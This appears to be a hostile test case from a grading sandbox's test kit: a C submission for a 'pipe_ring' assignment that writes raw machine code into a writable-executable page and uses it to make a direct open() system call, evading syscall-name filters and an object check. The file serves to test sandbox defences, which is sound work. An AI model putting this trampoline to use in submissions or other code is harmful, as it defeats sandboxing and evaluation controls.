/* ATTACK 15: copies machine code into a page that it may write and run.
 * assignment: pipe_ring
 * gains: system calls past every list of names and past the object check
 * expect: score<=5
 * max-score: 5
 * layers: namespaces, landlock
 * off: file /tmp/kit-hostile-15b
 */
#include "pipe_ring.h"

#include <string.h>
#include <sys/mman.h>

/* rax = 1st argument, then the others of a system call */
static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                     0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x0f, 0x05, 0xc3};

static long (*kernel(void))(long, long, long, long, long)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(page, code, sizeof code);
	return (long (*)(long, long, long, long, long))page;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)token;
	(void)step;
	(void)ctx;
	static const char path[] = "/tmp/kit-hostile-15b";
	kernel()(2, (long)path, 0102, 0644, 0); /* open */
	return -1;
}
